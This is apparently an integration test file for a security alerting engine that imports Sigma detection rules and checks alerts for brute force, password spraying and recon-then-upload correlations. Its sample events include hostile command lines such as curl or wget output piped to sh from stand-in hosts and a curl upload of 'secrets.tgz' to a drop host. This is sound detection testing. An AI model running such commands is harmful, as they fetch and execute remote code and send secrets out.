// Sigma rules through the real pipeline: imported over REST, events POSTed to /events, alerts read
// back; correlations (event_count, value_count, temporal, temporal_ordered) raise alerts from the
// engine's windows; unsupported features are a 400 naming them; drafts back-test over REST and tRPC.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { alertsOf, api, createRule, postEvents, uniqueCategory, type Json } from './alerts-api.ts';
import { startTestServer, type TestServer } from './server-harness.ts';

let s: TestServer;
beforeAll(async () => {
  s = await startTestServer({ PICKET_ALERT_TICK_MS: '100' });
});
afterAll(() => s?.stop());

const settle = () => s.picket.alerting.engine.idle();
const sigma = (yaml: string, extra: Json = {}) => createRule(s, { type: 'sigma', yaml, ...extra });

describe('importing Sigma rules', () => {
  it('POST /rules with type sigma: 201, name/severity/tags from the YAML, stored with the YAML', async () => {
    const yaml = `title: Root SSH login\nid: 5f0a6c1e-0000-4000-8000-000000000001\nstatus: test\nlevel: high\ntags:\n  - attack.initial_access\n  - attack.t1078\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  sel:\n    User: root\n  condition: sel\n`;
    const rule = await sigma(yaml);
    expect(rule).toMatchObject({
      type: 'sigma',
      name: 'Root SSH login',
      severity: 'ERROR',
      tags: ['attack.initial_access', 'attack.t1078'],
      category: 'sigma',
      yaml,
      version: 1,
    });
    const got = await api(s, 'GET', `/rules/${rule.id}`);
    expect(got.body).toMatchObject({ type: 'sigma', yaml });
  });

  it('refuses unsupported features with a 400 naming them, and stores nothing', async () => {
    const before = (await s.db.pool.query('SELECT count(*)::int AS n FROM rules')).rows[0].n;
    const r = await api(s, 'POST', '/rules', {
      type: 'sigma',
      yaml: 'title: x\ndetection:\n  sel:\n    CommandLine|expand: "%svc%"\n  condition: sel\n',
    });
    expect(r.status).toBe(400);
    expect((r.body.error as Json).message).toContain(
      'Sigma: the placeholder %svc% in "CommandLine|expand" is not defined (none is defined)',
    );
    const agg = await api(s, 'POST', '/rules', {
      type: 'sigma',
      yaml: 'title: x\ndetection:\n  sel:\n    User: x\n  condition: sel | count() by SourceIp > 5\n',
    });
    expect(agg.status).toBe(400);
    expect((agg.body.error as Json).message).toContain('aggregation');
    expect((await s.db.pool.query('SELECT count(*)::int AS n FROM rules')).rows[0].n).toBe(before);
  });
});

describe('realistic Sigma rules over MozDef-shaped events', () => {
  it('suspicious download-and-execute command line (|contains|all, |endswith): one alert per matching event', async () => {
    const cat = uniqueCategory('sigma-proc');
    const rule = await sigma(`title: Curl piped to shell
level: high
logsource:
  product: linux
  category: process_creation
detection:
  scope:
    run: ${cat}
  selection_img:
    Image|endswith: [/curl, /wget]
  selection_cli:
    CommandLine|contains|all: ['http', '| sh']
  filter_updates:
    ParentImage: /usr/lib/apt/methods/http
  condition: scope and all of selection_* and not filter_updates
`);
    // process_creation on linux reads MozDef's execve events.
    const ev = (hostname: string, processname: string, commandline: string, parent = '/bin/bash') => ({
      category: 'execve',
      hostname,
      processname,
      summary: `${processname} ran`,
      details: { run: cat, commandline, parentprocessname: parent },
    });
    await postEvents(s, [
      ev('ws-1', '/usr/bin/curl', 'curl -fsSL https://evil.example/i.sh | sh'),
      ev('ws-2', '/usr/bin/curl', 'curl -o out https://example.org/file'),
      ev('ws-3', '/usr/bin/wget', 'wget -qO- http://x.example/a | sh'),
      ev('ws-4', '/usr/bin/wget', 'wget -qO- http://deb.example/b | sh', '/usr/lib/apt/methods/http'),
      ev('ws-5', '/usr/bin/python3', 'python3 -c "import http; x | sh"'),
    ]);
    await settle();
    const alerts = await alertsOf(s, rule.id as string);
    expect(alerts.map((a) => a.summary).sort()).toEqual([
      'Curl piped to shell on ws-1: /usr/bin/curl ran',
      'Curl piped to shell on ws-3: /usr/bin/wget ran',
    ]);
    expect(alerts.every((a) => a.severity === 'ERROR' && a.eventCount === 1)).toBe(true);
  });

  it('successful password login from outside the corporate networks (|cidr with not)', async () => {
    const cat = uniqueCategory('sigma-cidr');
    const rule = await sigma(`title: Password login from an external address
level: medium
logsource:
  product: linux
  service: sshd
detection:
  selection:
    category: ${cat}
    success: true
    authmethod: password
  internal:
    SourceIp|cidr: [10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16]
  condition: selection and not internal
`);
    const ev = (ip: string, success: boolean, processname = 'sshd') => ({
      category: cat,
      hostname: 'bastion',
      processname,
      summary: `${success ? 'Accepted' : 'Failed'} password for bob from ${ip}`,
      details: { sourceipaddress: ip, success, authmethod: 'password', username: 'bob' },
    });
    await postEvents(s, [
      ev('10.2.3.4', true),
      ev('198.51.100.7', true),
      ev('198.51.100.8', false),
      ev('192.168.1.1', true),
      ev('203.0.113.5', true, 'login'),
    ]);
    await settle();
    const alerts = await alertsOf(s, rule.id as string);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ severity: 'WARNING', eventCount: 1 });
    expect(alerts[0].summary).toContain('198.51.100.7');
  });

  it('sshd brute force as an event_count correlation grouped by source address', async () => {
    const cat = uniqueCategory('sigma-brute');
    const rule = await sigma(`title: Failed sshd password
name: sshd_failed_password
logsource:
  product: linux
  service: sshd
detection:
  keywords:
    - 'Failed password'
  scope:
    category: ${cat}
  condition: keywords and scope
---
title: SSH brute force
level: medium
tags: [attack.credential_access, attack.t1110]
correlation:
  type: event_count
  rules: [sshd_failed_password]
  group-by: [SourceIp]
  timespan: 2m
  condition:
    gte: 5
`);
    expect(rule).toMatchObject({
      name: 'SSH brute force',
      severity: 'WARNING',
      tags: ['attack.credential_access', 'attack.t1110'],
    });
    const fail = (ip: string, user = 'root') => ({
      category: cat,
      hostname: 'web-01',
      processname: 'sshd',
      summary: `Failed password for ${user} from ${ip} port 22 ssh2`,
      details: { sourceipaddress: ip, username: user },
    });
    await postEvents(s, [fail('1.2.3.4'), fail('1.2.3.4'), fail('5.6.7.8'), fail('1.2.3.4'), fail('1.2.3.4')]);
    await settle();
    expect(await alertsOf(s, rule.id as string)).toHaveLength(0);
    await postEvents(s, [
      fail('1.2.3.4'),
      fail('5.6.7.8'),
      { ...fail('1.2.3.4'), summary: 'Accepted password for root from 1.2.3.4' },
    ]);
    await settle();
    const alerts = await alertsOf(s, rule.id as string);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      summary: 'SSH brute force: 5 events 1.2.3.4',
      eventCount: 5,
      severity: 'WARNING',
    });
  });

  it('password spraying as a value_count correlation: distinct users per source', async () => {
    const cat = uniqueCategory('sigma-spray');
    const rule = await sigma(`title: Failed logon
name: failed_logon
detection:
  selection:
    category: ${cat}
    EventID: 4625
  condition: selection
---
title: Password spraying
level: high
correlation:
  type: value_count
  rules: failed_logon
  group-by: [IpAddress]
  timespan: 10m
  condition:
    field: TargetUserName
    gte: 3
`);
    const logon = (ip: string, user: string, eventid = 4625) => ({
      category: cat,
      hostname: 'DC01',
      summary: 'An account failed to log on',
      details: { eventid, sourceipaddress: ip, username: user },
    });
    await postEvents(s, [
      logon('203.0.113.9', 'alice'),
      logon('203.0.113.9', 'alice'),
      logon('203.0.113.9', 'bob'),
      logon('198.51.100.1', 'carol'),
      logon('198.51.100.1', 'dave'),
      logon('203.0.113.9', 'erin', 4624),
    ]);
    await settle();
    expect(await alertsOf(s, rule.id as string)).toHaveLength(0);
    await postEvents(s, [logon('203.0.113.9', 'carol')]);
    await settle();
    const alerts = await alertsOf(s, rule.id as string);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      summary: 'Password spraying: 3 distinct TargetUserName in 4 events 203.0.113.9',
      eventCount: 4,
      severity: 'ERROR',
    });
  });

  it('recon then exfiltration on one host as a temporal correlation (any order), not on a host with only one', async () => {
    const cat = uniqueCategory('sigma-temporal');
    const rule = await sigma(`title: Recon command
name: recon
detection:
  selection:
    category: ${cat}
    CommandLine|contains: [whoami, 'net group']
  condition: selection
---
title: Upload with curl
name: upload
detection:
  selection:
    category: ${cat}
    CommandLine|contains|all: [curl, ' -T ']
  condition: selection
---
title: Recon and upload on one host
level: critical
correlation:
  type: temporal
  rules: [recon, upload]
  group-by: [ComputerName]
  timespan: 10m
`);
    const cmd = (hostname: string, commandline: string) => ({
      category: cat,
      hostname,
      summary: 'exec',
      details: { commandline },
    });
    await postEvents(s, [
      cmd('ws-1', 'curl -T secrets.tgz https://drop.example'),
      cmd('ws-2', 'whoami /all'),
      cmd('ws-2', 'whoami'),
      cmd('ws-3', 'ls -la'),
    ]);
    await settle();
    expect(await alertsOf(s, rule.id as string)).toHaveLength(0);
    await postEvents(s, [cmd('ws-1', 'net group "domain admins" /domain')]);
    await settle();
    const alerts = await alertsOf(s, rule.id as string);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      summary: 'Recon and upload on one host: 2 of 2 rules matched in 2 events ws-1',
      eventCount: 2,
      severity: 'CRITICAL',
    });
  });

  it('a correlation window is rebuilt from the store (as after a restart) and alerted events are not reused', async () => {
    const cat = uniqueCategory('sigma-rebuild');
    const rule = await sigma(`title: Login failure
name: fail
detection:
  s:
    category: ${cat}
    success: false
  condition: s
---
title: Login success
name: ok
detection:
  s:
    category: ${cat}
    success: true
  condition: s
---
title: Failure and success for one user
correlation:
  type: temporal
  rules: [fail, ok]
  group-by: [TargetUserName]
  timespan: 10m
`);
    const ev = (user: string, success: boolean) => ({ category: cat, details: { username: user, success } });
    await postEvents(s, [ev('kim', false), ev('lee', true), ev('lee', true)]);
    await settle();
    // Drop the in-memory windows and refill them from Postgres (the SQL form of the Sigma queries).
    await s.picket.alerting.engine.reload(rule.id as string);
    await settle();
    expect(await alertsOf(s, rule.id as string)).toHaveLength(0);
    await postEvents(s, [ev('kim', true), ev('lee', false)]);
    await settle();
    const alerts = await alertsOf(s, rule.id as string);
    expect(alerts.map((a) => a.eventCount).sort()).toEqual([2, 3]);
    // Rebuilt again: the events that fed those alerts stay out, so nothing new fires.
    await s.picket.alerting.engine.reload(rule.id as string);
    await postEvents(s, [ev('kim', false)]);
    await settle();
    expect(await alertsOf(s, rule.id as string)).toHaveLength(2);
  });

  it('temporal_ordered: only in the listed order', async () => {
    const cat = uniqueCategory('sigma-ordered');
    const rule = await sigma(`title: A
name: a
detection:
  s:
    category: ${cat}
    step: a
  condition: s
---
title: B
name: b
detection:
  s:
    category: ${cat}
    step: b
  condition: s
---
title: A then B
correlation:
  type: temporal_ordered
  rules: [a, b]
  group-by: [User]
  timespan: 5m
`);
    const ev = (user: string, step: string) => ({ category: cat, details: { username: user, step } });
    await postEvents(s, [ev('x', 'b'), ev('x', 'a'), ev('y', 'b')]);
    await settle();
    expect(await alertsOf(s, rule.id as string)).toHaveLength(0);
    await postEvents(s, [ev('x', 'b'), ev('y', 'a')]);
    await settle();
    const alerts = await alertsOf(s, rule.id as string);
    expect(alerts).toHaveLength(1);
    expect(alerts[0].eventCount).toBe(2);
  });
});

describe('testing Sigma drafts', () => {
  it('POST /rules/test and tRPC rules.test back-test a Sigma draft over stored events, storing nothing', async () => {
    const cat = uniqueCategory('sigma-bt');
    await postEvents(
      s,
      ['a', 'b', 'a', 'c', 'a'].map((u) => ({
        category: cat,
        summary: 'Failed password',
        details: { sourceipaddress: `10.0.0.${u === 'a' ? 1 : 2}`, username: u },
      })),
    );
    await settle();
    const yaml = `title: f\nname: f\ndetection:\n  s:\n    category: ${cat}\n  condition: s\n---\ntitle: Three from one source\ncorrelation:\n  type: event_count\n  rules: f\n  group-by: SourceIp\n  timespan: 10m\n  condition: {gte: 3}\n`;
    const count = async () =>
      (await s.db.pool.query('SELECT (SELECT count(*) FROM alerts)::int AS a, (SELECT count(*) FROM rules)::int AS r'))
        .rows[0];
    const before = await count();
    const r = await api(s, 'POST', '/rules/test', { rule: { type: 'sigma', yaml }, from: 'now-1h', to: 'now+1m' });
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect(r.body.matched).toBe(5);
    expect((r.body.alerts as Json[]).map((a) => [a.summary, a.eventCount])).toEqual([
      ['Three from one source: 3 events 10.0.0.1', 3],
    ]);
    const res = await fetch(`${s.url}/api/trpc/rules.test`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${s.adminToken}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ rule: { type: 'sigma', yaml }, from: 'now-1h', to: 'now+1m' }),
    });
    expect(res.status).toBe(200);
    const data = ((await res.json()) as { result: { data: Json } }).result.data;
    expect((data.alerts as Json[]).length).toBe(1);
    const bad = await api(s, 'POST', '/rules/test', {
      rule: { type: 'sigma', yaml: yaml.replace('gte: 3', 'range: 3') },
    });
    expect(bad.status).toBe(400);
    expect((bad.body.error as Json).message).toContain('the correlation condition "range" is not supported');
    expect(await count()).toEqual(before);
  });
});
